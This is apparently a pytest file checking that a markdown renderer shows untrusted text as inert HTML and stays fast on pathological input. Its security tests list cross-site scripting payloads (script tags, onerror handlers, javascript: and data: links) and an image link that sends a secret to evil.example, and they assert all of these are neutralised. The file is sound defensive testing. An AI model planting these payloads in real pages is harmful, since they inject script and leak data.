"""Text from models and untrusted people is readable and inert."""

from __future__ import annotations

from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from reactpy import component, html

from fundwright.core.assembly import Core
from fundwright_ui.runtime.html import to_html
from fundwright_ui.screens.help.topics import TOPICS
from fundwright_ui.testing import mounted
from fundwright_ui.widgets.markdown import rendered, rendered_for_guests
from tests.availability.worst import PATTERNS


async def html_of(core: Core, text: str) -> str:
    @component
    def screen() -> Any:
        return html.div(*rendered(text))

    async with mounted(core, None, screen) as shown:
        return to_html(shown.view.tree).partition("</div>")[2]  # after the page's place for messages


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("# Aim\n\nOne **bold** and *thin* `x`.", "<h1>Aim</h1><p>One <strong>bold</strong> and <em>thin</em> <code>x</code>.</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("> said [1]", "<blockquote><p>said [1]</p></blockquote>"),
        ("|a|b|\n|-|-|\n|1|2|", "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
    ],
)  # fmt: skip
async def test_markdown_becomes_elements(core: Core, text: str, markup: str) -> None:
    assert await html_of(core, text) == f"<div>{markup}</div>"


@pytest.mark.security(39)
@pytest.mark.parametrize(
    "text",
    [
        '<img src=x onerror="alert(1)">',
        "![pixel](http://evil.example/?q=secret)",
        "[here](javascript:alert(1))",
        "[here](mailto:ada@example.org?bcc=eve@evil.example)",
        "[here](data:text/html,x)",
        "<script>alert(1)</script>",
        "[a]: javascript:alert(1)\n\n[a]",
        "[here](//evil.example)",
    ],
)
async def test_what_could_act_is_only_text(core: Core, text: str) -> None:
    shown = await html_of(core, text)
    assert "<img" not in shown
    assert "<script" not in shown
    assert 'href="javascript' not in shown
    assert 'href="data' not in shown
    assert 'href="//' not in shown
    assert 'href="mailto' not in shown
    assert "src=" not in shown.replace("&lt;img src=x", "")


@pytest.mark.parametrize(
    "line", ["|1|2|\n", "- item\n", "[a](/b) ", "*a* ", "one\n\n"], ids=["table", "list", "links", "emphasis", "text"]
)
async def test_the_end_of_long_text_is_not_formatted(core: Core, line: str) -> None:
    start = "|a|b|\n|-|-|\n" if line.startswith("|") else ""
    text = start + line * (5_000 // len(line)) + "\n\n" + line * 10_000 + "the end"
    formatted, _, plain = (await html_of(core, text)).partition('<div class="fw-prewrap">')
    assert 50 < formatted.count("<") < 1_000
    assert plain.startswith(line.strip()) and plain.endswith("the end</div></div>") and plain.count("<") == 2


async def test_long_text_is_cut_between_paragraphs(core: Core) -> None:
    first, second = "*a* " * 100, "*b* " * 100
    formatted, _, plain = (await html_of(core, f"{first}\n\n{second}")).partition('<div class="fw-prewrap">')
    assert formatted.count("<em>a</em>") == 100 and "b" not in formatted
    assert plain == f"{second.strip()}</div></div>"


async def test_a_long_table_is_cut_between_rows(core: Core) -> None:
    formatted, _, plain = (await html_of(core, "|a|b|\n|-|-|\n" + "|1|2|\n" * 1_000)).partition('<div class="fw-prewrap">')
    assert formatted.count("<tr><td>1</td><td>2</td></tr>") == formatted.count("</tr>") - 1 > 0
    assert plain.startswith("|1|2|\n")


WORST = {
    **PATTERNS,
    "paragraphs": "a\n\n",
    "lines": "a\\\n",
    "headings": "# a\n",
    "cells": "a|b\n-|-\n",
    "wide table": "|a" * 60 + "\n" + "|-" * 60 + "\n" + "|\n" * 60 + "\n",
    "wide table with other ends of lines": "|a" * 60 + "\r" + "|-" * 60 + "\r\n" + "|\r" * 60 + "\n",
    "wide table with other separators": "|a\u2028" * 60 + "\n" + "|-" * 60 + "\n" + "|\n" * 60 + "\n",
    "narrow tables": "|a|b|\n|-|-|\n|\n|\n\n",
    "emphasis": "**a*",
    "nested emphasis": "*" * 2_500 + "a",
    "addresses": "<http://a> ",
    "references": "[a] [1] [1, 2] ",
}


@pytest.mark.security(53)
@pytest.mark.parametrize("pattern", WORST.values(), ids=WORST)
async def test_no_text_takes_the_loop_long(core: Core, monkeypatch: pytest.MonkeyPatch, pattern: str) -> None:
    """200,000 characters take no more than 5,000, which have a limited number of tokens and elements. Each takes some 10 µs."""
    tokens = 0
    parse = MarkdownIt.parse

    def counted(self: MarkdownIt, src: str) -> list[Token]:
        nonlocal tokens
        assert len(src) <= 5_000
        parsed = parse(self, src)
        tokens += sum(1 + len(token.children or ()) for token in parsed)
        return parsed

    monkeypatch.setattr(MarkdownIt, "parse", counted)
    shown = await html_of(core, pattern * (200_000 // len(pattern)))
    assert tokens < 1_200
    assert shown.count("<") < 1_200


@pytest.mark.security(53)
def test_elements_within_each_other_are_shown_as_text() -> None:
    text = "*" * 2_500 + "a" + "*" * 2_500
    assert text in str(rendered_for_guests(text, set(), source=str))


async def test_help_is_short_enough_to_be_formatted(core: Core) -> None:
    for topics in TOPICS.values():
        for topic in topics.values():
            assert "fw-prewrap" not in str(rendered(topic.text)), topic.title
